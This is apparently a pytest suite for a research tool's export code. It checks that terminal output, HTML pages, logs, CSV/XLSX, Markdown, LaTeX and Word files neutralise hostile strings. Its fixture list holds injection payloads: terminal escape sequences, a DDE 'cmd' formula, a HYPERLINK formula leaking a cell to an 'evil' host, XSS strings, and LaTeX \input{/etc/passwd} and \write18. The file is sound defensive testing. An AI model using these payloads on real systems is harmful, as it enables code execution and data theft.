"""The same hostile texts through every place where texts leave: screens, pages and files."""

import io
import json
import re
import sys
import zipfile
from datetime import UTC, datetime

import pandas as pd
import pytest

from neuroflow.cli import console
from neuroflow.cli.as_json import plain, write_json
from neuroflow.compare import save_paper_table
from neuroflow.errors import ResultWarning, StudyError
from neuroflow.events import Bars, EventLog, Lines, warn_user
from neuroflow.models import Cohort, Event, Study, StudyKind, html_table
from neuroflow.results import save_cohort_table
from neuroflow.widgets.common import html

INVISIBLE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
HOSTILE = [
    "\x1b]0;PWNED\x07\x1b[2J\x9b31m\x1b]52;c;ZWNobyBoaQ==\x07sub\u202e1-gnp.txt",
    "a\u2028b\x00\x0b\u200e\u061c\ufffe", "a\rb", "\ud800",
    '=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", " =1",
    "\uff1d1+1", "%0a", "|calc", "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
    "![x](http://evil/?a)", "[click](javascript:alert(1))", "`code`", "&lt;b&gt;", "a|b",
    "[link=http://evil]x[/link]", "\\input{/etc/passwd}", "$\\frac{a$", "%x", "{\\write18{id}}",
]  # fmt: skip
NOW = datetime(2026, 1, 31, tzinfo=UTC)


@pytest.fixture(params=HOSTILE, ids=ascii)
def text(request):
    return request.param


def shown(text):
    """Return what a screen would show, the ends of lines apart."""
    return text.replace("\n", "")


def event(message):
    return Event("collect", "s", 0, 0, "failed", message, NOW)


SCREENS = {
    "console": lambda text: console.Console().print(text),
    "error output": console.print_stderr,
    "error": lambda text: console.print_error(StudyError(text, why=text, advice=text)),
    "grid": lambda text: console.Console().output({}, pd.DataFrame({text: [text]})),
    "lines": lambda text: Lines()(event(text)),
    "bars": lambda text: Bars(disable=False, file=sys.stderr)(event(text)),
    "json": lambda text: write_json({"a": plain(text)}),
}


@pytest.mark.parametrize("name", SCREENS)
def test_no_text_is_a_command_to_the_terminal(name, text, capsys):
    if (name, text) == ("grid", "\ud800"):
        pytest.skip("no table of pandas can hold it")
    SCREENS[name](text)
    printed = capsys.readouterr()
    assert not INVISIBLE.search(shown(printed.out + printed.err))
    assert printed.out + printed.err


def test_errors_warnings_and_reprs_contain_no_control_codes(text):
    study = Study(text, StudyKind.DICOM, io, ())
    with pytest.warns(ResultWarning, match="") as caught:
        warn_user(text, ResultWarning)
    for words in (str(StudyError(text)), repr(study), str(caught[0].message)):
        assert not INVISIBLE.search(words.replace("\r", "").replace("\t", ""))


def test_no_text_is_markup_on_a_page(text):
    study = Study(text, StudyKind.DICOM, io, (), participant_id=text)
    cohort = Cohort("C", (study,))
    pages = [html.text(text), html_table([{text: text}]), study._repr_html_()]
    for page in [*pages, cohort._repr_html_(), html.bullets([text])]:
        assert not re.search(r"<(script|img)|onerror=alert\(1\)>", page)
        assert not INVISIBLE.search(page.replace("\r", ""))


def test_no_text_of_a_log_is_a_command(text, tmp_path):
    path = tmp_path / "logs" / "neuroflow.log"
    with EventLog(path, "collect", lambda event: None, clock=lambda: NOW) as log:
        log(event(text))
    assert not INVISIBLE.search(shown(path.read_text("utf-8")))


@pytest.fixture
def table(text):
    if text == "\ud800":
        pytest.skip("no table of pandas can hold it")
    frame = pd.DataFrame({"group": [text, "PD"], text: [text, "-0.5"], "value": [1.0, -2.0]})
    frame.attrs = {"method": "x", "methods": text, text: text}
    return frame


@pytest.mark.parametrize("ending", ["csv", "tsv"])
def test_no_text_is_a_formula_of_a_spreadsheet(table, tmp_path, ending):
    path = save_cohort_table(table, tmp_path / f"t.{ending}")
    cells = pd.read_csv(path, sep="\t" if ending == "tsv" else ",", dtype=str, header=None)
    for cell in cells.to_numpy().ravel():
        assert re.fullmatch(r"-?\d+(\.\d+)?", str(cell)) or not re.match(
            r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20|%]", str(cell)
        )
        assert not INVISIBLE.search(str(cell).replace("\r", ""))
    assert json.loads((tmp_path / "t.json").read_text("utf-8"))


@pytest.mark.parametrize("save", [save_cohort_table, save_paper_table])
def test_a_workbook_holds_texts_and_no_formula(table, tmp_path, save):
    openpyxl = pytest.importorskip("openpyxl")
    path = save(table, tmp_path / "t.xlsx")
    cells = [c for sheet in openpyxl.load_workbook(path) for row in sheet.iter_rows() for c in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(path) as parts:
        assert not [name for name in parts.namelist() if b"<f>" in parts.read(name)]


def test_markdown_holds_no_markup_of_its_texts(table, tmp_path):
    path = save_paper_table(table, tmp_path / "t.md", title=table["group"][0])
    words = path.read_text("utf-8")
    assert not re.search(r"<[a-zA-Z/!]|(?<!\\)\[", words)
    assert not INVISIBLE.search(shown(words))
    rows = [line for line in words.splitlines() if line.startswith("| ")]
    assert {len(re.findall(r"(?<!\\)\|", row)) for row in rows} == {4}


def test_latex_holds_no_command_of_its_texts(table, tmp_path):
    words = save_paper_table(table, tmp_path / "t.tex", title="t").read_text("utf-8")
    assert not re.search(r"\\(input|write|frac)", words)
    assert not INVISIBLE.search(shown(words))


def test_a_word_document_holds_every_text(table, tmp_path):
    docx = pytest.importorskip("docx")
    path = save_paper_table(table, tmp_path / "t.docx", title=table["group"][0])
    cells = docx.Document(str(path)).tables[0].rows[1].cells
    assert not INVISIBLE.search(cells[0].text)
    with zipfile.ZipFile(path) as parts:
        assert not [
            name for name in parts.namelist() if b'TargetMode="External"' in parts.read(name)
        ]


def test_plain_texts_stay_as_they_are(tmp_path):
    plain = ["PD/MSA", "p < 0.001", "-0.5", "Müller & Söhne", "η² = 0.1", "a*b_c", "3 mg/ml", "-"]
    frame = pd.DataFrame({"words": plain})
    assert save_cohort_table(frame, tmp_path / "t.csv").read_text("utf-8-sig").split("\n") == [
        "words", *plain, ""
    ]  # fmt: skip
    markdown = save_paper_table(frame, tmp_path / "t.md").read_text("utf-8")
    assert all(word in markdown for word in plain)


@pytest.mark.parametrize("ending", ["csv", "tsv", "xlsx", "parquet"])
def test_an_export_names_no_folder_of_this_computer(tmp_path, ending):
    place = tmp_path / "erika" / "results" / "s_out"
    frame = pd.DataFrame(
        {
            "study_id": ["s", "t"],
            "report": [place / "prediction.txt", None],
            "picture": [str(place / "prediction.png"), ""],
            "warnings": [f"{place / 'a.txt'}: unreadable", ""],
        }
    )
    frame.attrs = {"schema": str(place), "left_out": [f"in {place}"]}
    path = save_cohort_table(frame, tmp_path / f"t.{ending}")
    for file in tmp_path.glob("t.*"):
        data = file.read_bytes()
        if ending == "xlsx" and file == path:
            with zipfile.ZipFile(path) as parts:
                data = b"".join(map(parts.read, parts.namelist()))
        assert b"erika" not in data
    if ending == "csv":
        assert pd.read_csv(path)["report"][0] == "s_out/prediction.txt"
